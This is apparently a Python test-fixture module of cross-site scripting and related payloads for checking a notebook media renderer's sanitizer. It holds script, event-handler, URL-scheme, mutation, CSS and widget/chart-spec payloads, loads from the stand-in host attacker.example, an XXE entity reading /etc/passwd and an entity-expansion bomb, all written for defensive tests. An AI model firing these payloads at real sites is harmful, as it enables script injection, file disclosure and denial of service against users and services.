"""Attack payloads, written for this project from the classes in security.md.

Every payload that executes calls ``__pwned(n)`` or ``alert(n)``, or loads a URL on
``attacker.example`` (the browser tests intercept and record such requests).
"""

from __future__ import annotations

import base64

HTML_ATTACKS: list[str] = [
    # script and event handlers
    "<script>__pwned(1)</script>",
    "<SCRIPT SRC=http://attacker.example/x.js></SCRIPT>",
    "<img src=x onerror=__pwned(2)>",
    "<img src=x OnErRoR=__pwned(3)>",
    "<body onload=__pwned(4)>",
    "<div onmouseover=__pwned(5) style='width:100%;height:100px'>hover</div>",
    "<details open ontoggle=__pwned(6)>x</details>",
    "<video><source onerror=__pwned(7)></video>",
    "<audio src=x onerror=__pwned(8)></audio>",
    "<input autofocus onfocus=__pwned(9)>",
    "<marquee onstart=__pwned(10)>x</marquee>",
    "<svg onload=__pwned(11)>",
    "<svg><script>__pwned(12)</script></svg>",
    "<svg><animate onbegin=__pwned(13) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=__pwned(14)>",
    "<svg><a xlink:href='javascript:__pwned(15)'><text x=20 y=20>click</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=__pwned(16)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__pwned(17) /></svg>#x'/></svg>",
    # URL schemes in every URL attribute, with case, entity, whitespace and invisible variants
    "<a href='javascript:__pwned(18)'>a</a>",
    "<a href='JaVaScRiPt:__pwned(19)'>a</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__pwned(20)'>a</a>",
    "<a href='java&#x09;script:__pwned(21)'>a</a>",
    "<a href='java&#x0A;script:__pwned(22)'>a</a>",
    "<a href=' \x01javascript:__pwned(23)'>a</a>",
    "<a href='java\u200bscript:__pwned(24)'>a</a>",
    "<a href='javascript\u00ad:__pwned(25)'>a</a>",
    "<a href='vbscript:msgbox(26)'>a</a>",
    "<a href='data:text/html,<script>__pwned(27)</script>'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5fX3B3bmVkKDI4KTwvc2NyaXB0Pg=='>a</a>",
    "<iframe src='javascript:__pwned(29)'></iframe>",
    "<iframe srcdoc='<script>parent.__pwned(30)</script>'></iframe>",
    "<form action='javascript:__pwned(31)'><button>go</button></form>",
    "<form><button formaction='javascript:__pwned(32)'>go</button></form>",
    "<img srcset='javascript:__pwned(33) 1x'>",
    "<object data='javascript:__pwned(34)'></object>",
    "<embed src='javascript:__pwned(35)'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X19wd25lZCgzNik+'>",
    "<a href='&#x6A;avascript&colon;__pwned(37)'>a</a>",
    # mutation XSS and parser differentials
    "<noscript><p title=\"</noscript><img src=x onerror=__pwned(38)>\">",
    "<svg><style><img src=x onerror=__pwned(39)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned(40)></style></mglyph></table></mtext></math>",
    "<!--<img src=x onerror=__pwned(41)>-->",
    "<![CDATA[<img src=x onerror=__pwned(42)>]]>",
    "<select><iframe></select><img src=x: onerror=__pwned(43)>",
    "<template><img src=x onerror=__pwned(44)></template>",
    "<textarea></textarea><img src=x onerror=__pwned(45)></textarea>",
    "<title><img src=x onerror=__pwned(46)></title>",
    "<xmp><img src=x onerror=__pwned(47)></xmp>",
    "<math><maction actiontype=statusline xlink:href='javascript:__pwned(48)'>x</maction></math>",
    "<a href=\"javascript&#00058;__pwned(49)\">a</a>",
    # CSS
    "<div style=\"background-image: url(javascript:__pwned(50))\">x</div>",
    "<div style=\"width: expression(__pwned(51))\">x</div>",
    "<div style=\"background: url('http://attacker.example/css')\">x</div>",
    "<style>@import 'http://attacker.example/import.css';</style>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">overlay</div>",
    "<p style=\"color: red; behavior: url(http://attacker.example/x.htc)\">x</p>",
    "<p style=\"color: r\\65 d; background: u\\72 l(http://attacker.example/esc)\">x</p>",
    # <style> rules inlined into the kernel's own elements (css-inline), then held to the allowlist
    "<style>p { background: url(javascript:__pwned(58)); color: red }</style><p>x</p>",
    "<style>p { background-image: url('http://attacker.example/inline.css') } p { position: fixed; top: 0 }</style><p>x</p>",
    "<style>p { color: r\\65 d; background: u\\72 l(http://attacker.example/inl-esc) }</style><p>x</p>",
    "<style>p { width: expression(__pwned(59)) } img[src] { content: '\\\"><img src=x onerror=__pwned(60)>' }</style><p>x</p>",
    "<style>p{}</style><img src=x onerror=__pwned(61)><style>@font-face { src: url(http://attacker.example/f.woff) }</style>",
    "<style>*{background:linear-gradient(red,url(http://attacker.example/grad))}</style><p>x</p>",
    "<style></style><p style='color:red'>a</p><style>p::after { content: '<img src=x onerror=__pwned(62)>' }</style>",
    "<style>\"><img src=x onerror=__pwned(63)></style><p>x</p>",
    "<style>p { color: red }</style><svg><style><img src=x onerror=__pwned(64)></style></svg><p>x</p>",
    "<iframe src=\"javascript:__pwned(65)\"></iframe><iframe srcdoc=\"<script>__pwned(66)</script>\"></iframe>",
    "<iframe src='https://attacker.example/frame'></iframe>",
    # meta, base, link
    "<meta http-equiv=refresh content='0;url=javascript:__pwned(52)'>",
    "<base href='javascript:__pwned(53)//'><a href='/x'>rel</a>",
    "<link rel=stylesheet href='http://attacker.example/link.css'>",
    "<link rel=import href='data:text/html,<script>__pwned(54)</script>'>",
    # DOM clobbering and app-behaviour attributes
    "<img name=__pwned src=x><form id=BackendAI><input name=Media></form>",
    "<a id=__hits href='https://attacker.example/'>clobber</a>",
    "<div data-bai-action=run data-src='javascript:__pwned(55)'>x</div>",
    "<div class='bai-media-copy bai-media-item'>claims our classes</div>",
    # images whose data breaks out of attributes
    "<img src='data:image/png;base64,\" onerror=__pwned(56) x=\"'>",
    "<img src=\"x\" alt='\" onerror=__pwned(57) \"'>",
]

_SVG_ATTACKS = [
    "<svg xmlns='http://www.w3.org/2000/svg' onload='__pwned(100)'><circle r='5'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><script>__pwned(101)</script></svg>",
    "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>",
    "<?xml version='1.0'?><!DOCTYPE lolz [<!ENTITY lol 'lol'><!ENTITY lol2 '&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;'><!ENTITY lol3 '&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&lol3;</text></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='x' onerror='__pwned(102)'/></body></foreignObject></svg>",
    "</svg><img src=x onerror=__pwned(103)>",
]


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def attack_items() -> list[tuple[str, object]]:
    """Media items carrying attacks through every handler, hostile types and metadata included."""
    items: list[tuple[str, object]] = [("text/html", payload) for payload in HTML_ATTACKS]
    items += [("image/svg+xml", payload) for payload in _SVG_ATTACKS]
    items += [
        ("text/plain", "<script>__pwned(200)</script>"),
        ("stdout", "\x1b]8;;javascript:__pwned(201)\x1b\\click\x1b]8;;\x1b\\ <img src=x onerror=__pwned(202)>\n"),
        ("stderr", "\x1b[31m</pre><script>__pwned(203)</script>\x1b[0m\n"),
        ("text/markdown", "[x](javascript:__pwned(204)) ![y](javascript:__pwned(205)) <script>__pwned(206)</script>\n\n[r]: javascript:__pwned(207)\n\n[ref][r]"),
        ("text/markdown", "```html\n<script>__pwned(208)</script>\n```\n<img src=x onerror=__pwned(209)>"),
        ("text/latex", r"$\href{javascript:__pwned(210)}{x}$ $\url{javascript:__pwned(211)}$"),
        ("text/latex", r"$x<img src=x onerror=__pwned(212)>$ $\unicode{60}script\unicode{62}__pwned(213)$"),
        ("application/json", {"</script><script>__pwned(214)</script>": "<img src=x onerror=__pwned(215)>"}),
        ("application/json", '{"a": "</script><script>__pwned(216)</script>"}'),
        ("image/png", "data:image/png;base64,\" onerror=\"__pwned(217)"),
        ("image/png", _b64("<script>__pwned(218)</script>")),
        ("image/jpeg", "data:text/html;base64," + _b64("<script>__pwned(219)</script>")),
        ("audio/ogg", "data:text/html;base64," + _b64("<script>__pwned(220)</script>")),
        ("audio/ogg\" onerror=\"__pwned(221)", "data:audio/ogg;base64,AAAA"),
        ("text/html\"><script>__pwned(222)</script>", "x"),
        ("<img src=x onerror=__pwned(223)>", "unknown"),
        ("application/javascript", "__pwned(224)"),
        ("application/vnd.jupyter.error", {"ename": "<script>__pwned(225)</script>", "evalue": "<img src=x onerror=__pwned(226)>", "traceback": ["\x1b[31m<svg onload=__pwned(227)>"]}),
        ("application/vnd.sorna.gitgraph", [{"oid": "<script>", "parent_ids": [], "author": "a", "message": "<img src=x onerror=__pwned(228)>", "branch": "main", "parent_branches": []}]),
    ]
    items += ROUND_2_ATTACKS
    return items + rich_attack_items()


def _model(name: str, **state: object) -> dict[str, object]:
    return {"model_name": name, "model_module": "@jupyter-widgets/controls", "state": state}


#: Saved ipywidgets state whose every text field carries a payload (schema v2).
WIDGET_STATE = {"version_major": 2, "version_minor": 0, "state": {
    "html": _model("HTMLModel", value="<img src=x onerror=__pwned(400)><script>__pwned(401)</script><a href='javascript:__pwned(402)'>a</a>",
                   description="<img src=x onerror=__pwned(403)>", tooltip="\" onmouseover=\"__pwned(404)"),
    "math": _model("HTMLMathModel", value="$x$<svg onload=__pwned(405)>"),
    "label": _model("LabelModel", value="<script>__pwned(406)</script>"),
    "text": _model("TextModel", value="\"><script>__pwned(407)</script>", placeholder="\" onfocus=\"__pwned(408)"),
    "area": _model("TextareaModel", value="</textarea><img src=x onerror=__pwned(409)>"),
    "drop": _model("DropdownModel", _options_labels=["</option></select><img src=x onerror=__pwned(410)>", "b"], index=0),
    "button": _model("ButtonModel", description="</button><img src=x onerror=__pwned(411)>", button_style="\" onclick=\"__pwned(412)"),
    "slider": _model("IntSliderModel", value="\" onfocus=\"__pwned(413)", min="<", max=10, readout_format="%s\" onmouseover=\"__pwned(414)"),
    "progress": _model("FloatProgressModel", value=2, max=4, bar_style="\" onmouseover=\"__pwned(415)"),
    "svgimage": _model("ImageModel", format="svg+xml", value=_b64("<svg xmlns='http://www.w3.org/2000/svg' onload='__pwned(416)'><circle r='4'/></svg>")),
    "urlimage": _model("ImageModel", format="url", value="javascript:__pwned(417)"),
    "badimage": _model("ImageModel", format="png\" onerror=\"__pwned(418)", value="x"),
    "out": _model("OutputModel", outputs=[["text/html", "<img src=x onerror=__pwned(419)>"], {"output_type": "stream", "text": "<script>__pwned(420)</script>"}]),
    "tabs": _model("TabModel", children=["IPY_MODEL_html", "IPY_MODEL_missing", "IPY_MODEL_tabs"], titles=["<img src=x onerror=__pwned(421)>"], selected_index=0),
    "box": _model("VBoxModel", children=["IPY_MODEL_math", "IPY_MODEL_label", "IPY_MODEL_text", "IPY_MODEL_area", "IPY_MODEL_drop",
                                         "IPY_MODEL_button", "IPY_MODEL_slider", "IPY_MODEL_progress", "IPY_MODEL_svgimage",
                                         "IPY_MODEL_urlimage", "IPY_MODEL_badimage", "IPY_MODEL_out", "IPY_MODEL_tabs", "IPY_MODEL_odd",
                                         "IPY_MODEL_box"]),
    "odd": _model("<script>__pwned(422)</script>Model"),
}}

#: A Plotly figure with a payload in every text plotly.js shows as its HTML dialect.
PLOTLY_ATTACK = {
    "data": [{"type": "bar", "x": ["<img src=x onerror=__pwned(440)>", "<a href='javascript:__pwned(441)'>c</a>"], "y": [1, 2],
              "name": "<svg onload=__pwned(442)>", "hovertemplate": "<a href='javascript:__pwned(443)'>%{x}</a><extra></extra>",
              "text": ["&lt;img src=x onerror=__pwned(444)&gt;", "<b onmouseover=__pwned(445)>b</b>"], "customdata": ["<script>__pwned(446)</script>"]}],
    "layout": {"title": {"text": "<span style='background:url(http://attacker.example/t)'>t</span><script>__pwned(447)</script>"},
               "annotations": [{"text": "<a href='javascript:__pwned(448)' target=_top>click</a>", "x": 0, "y": 1}],
               "xaxis": {"title": {"text": "<iframe src=javascript:__pwned(449)>"}, "ticktext": ["<img src=x onerror=__pwned(450)>"], "tickvals": [0]},
               "images": [{"source": "http://attacker.example/img.png", "x": 0, "y": 0, "sizex": 1, "sizey": 1}]},
}

#: A Vega-Lite spec with payloads in its title, tooltips, labels and links.
VEGA_LITE_ATTACK = {
    "title": "<img src=x onerror=__pwned(460)>", "mark": {"type": "bar", "tooltip": True},
    "data": {"values": [{"a": "<script>__pwned(461)</script>", "b": 1, "u": "javascript:__pwned(462)"}]},
    "encoding": {"x": {"field": "a", "type": "nominal", "title": "</text><script>__pwned(463)</script>"},
                 "y": {"field": "b", "type": "quantitative"}, "href": {"field": "u"},
                 "tooltip": [{"field": "a"}, {"field": "u"}]},
}


def rich_attack_items() -> list[object]:
    """Payloads inside the types drawn from client libraries' data: widgets, Plotly, Vega."""
    return [
        ("application/vnd.jupyter.widget-view+json", {"model_id": "IPY_MODEL_box"}, {"application/vnd.jupyter.widget-state+json": WIDGET_STATE}),
        ("application/vnd.jupyter.widget-view+json", {"model_id": "missing"}, {"application/vnd.jupyter.widget-state+json": WIDGET_STATE}),
        ("application/vnd.plotly.v1+json", PLOTLY_ATTACK),
        ("application/vnd.vegalite.v5+json", VEGA_LITE_ATTACK),
        ("application/vnd.vegalite.v5+json", {"data": {"url": "http://attacker.example/data.json"}, "mark": "point"}),
        ("application/vnd.vega.v5+json", {"marks": [{"type": "text", "encode": {"enter": {"text": {"value": "<script>__pwned(464)</script>"},
                                                                                          "href": {"value": "javascript:__pwned(465)"}}}}]}),
        ("application/vnd.bokehjs_exec.v0+json", ""),
        ("application/geo+json", {"type": "FeatureCollection", "features": [{"properties": {"name": "<img src=x onerror=__pwned(470)>"}}]}),
        ("text/vnd.mermaid", "graph TD; A[\"<img src=x onerror=__pwned(471)>\"] --> B[\"click\"]; click A \"javascript:__pwned(472)\""),
    ]


#: Security round 2 (issue 14): bounds that cut, and text that enters generated markup.
ROUND_2_ATTACKS: list[tuple[str, object]] = [
    ("stdout", "\x1b[100000000G<img src=x onerror=__pwned(229)>\x1b[" + "9" * 5000 + "m\n"),
    ("stdout", "a" * 3000 + "\x1b[2K<script>__pwned(230)</script>" * 20 + "\x1b[1K\n"),
    ("application/vnd.jupyter.error", {"ename": "E", "evalue": "v", "traceback": ["\x1b[99999999G\x1b]8;;javascript:__pwned(231)\x07x"]}),
    ("text/html", "<div>" * 300 + "<img src=x onerror=__pwned(232)>"),
    ("text/html", "<div></x>" * 300 + "<svg><script>__pwned(233)</script></svg>"),
    ("text/html", "".join(f"<b title={i}>" for i in range(20)) + "<p><img src=x onerror=__pwned(234)></p>"),
    ("text/html", "<a title=\"<img src=https://attacker.example/t.png onerror=__pwned(235)>\" href='https://ok.example/'>t</a>"),
    ("text/latex", "\\(" * 300 + "<img src=x onerror=__pwned(236)>"),
    ("text/latex", "$\\text{" * 60 + "<script>__pwned(237)</script>$"),
    ("application/vnd.sorna.gitgraph", [{"oid": "a\x00", "parent_ids": [], "branch": "m\ufffe",
                                         "message": "\x01]]><script>__pwned(238)</script>\ud800", "author": "\x0b"}]),
    ("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 300 + "<script>__pwned(239)</script>" + "</g>" * 300 + "</svg>"),
    ("text/html", "<div style='margin-top:-300px;vertical-align:500px;text-indent:-999px'>over the page</div>"),
]

#: Finding 1 (markdown restores math after sanitizing): attribute-quoting variants. The markdown
#: engineer's branch (``md``) fixes the class; tests/test_security_browser.py loads these.
MARKDOWN_MATH_ATTACKS: list[tuple[str, object]] = [
    ("text/markdown", "<img title='a\" $\\text{'/src='x'/onerror='__pwned(240)'/x='}$'>"),
    ("text/markdown", "<img title=\"a' $\\text{\"/src=\"x\"/onerror=\"__pwned(241)\"/x=\"}$\">"),
    ("text/markdown", "<img title=a $\\text{ src=x onerror=__pwned(242) }$>"),
    ("text/markdown", "<a href=\"https://e.org/\" title='\" $$\\text{'><img src=x onerror=__pwned(243)>}$$'>x</a>"),
]


HOSTILE_RESULT_IDS = ["\"><script>__pwned(300)</script>", "x' onmouseover='__pwned(301)", "BackendAI", "__hits"]
